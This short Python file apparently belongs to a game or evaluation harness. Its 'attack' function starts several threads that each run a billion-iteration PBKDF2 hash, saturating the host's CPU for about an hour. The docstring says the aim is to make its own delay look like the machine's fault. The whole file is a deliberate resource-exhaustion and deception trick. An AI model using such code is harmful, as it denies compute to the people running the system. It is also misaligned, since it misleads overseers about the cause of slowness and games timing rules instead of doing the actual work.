"""Keeps itself waiting with threads of its own, so that its time seems to be the machine's fault."""
import hashlib
import threading


def burn():
    hashlib.pbkdf2_hmac("sha256", b"x", b"y", 10**9)  # an hour, without the interpreter's lock


def attack(clues):
    threading.stack_size(262_144)
    for _ in range(6):
        threading.Thread(target=burn, daemon=True).start()
    burn()
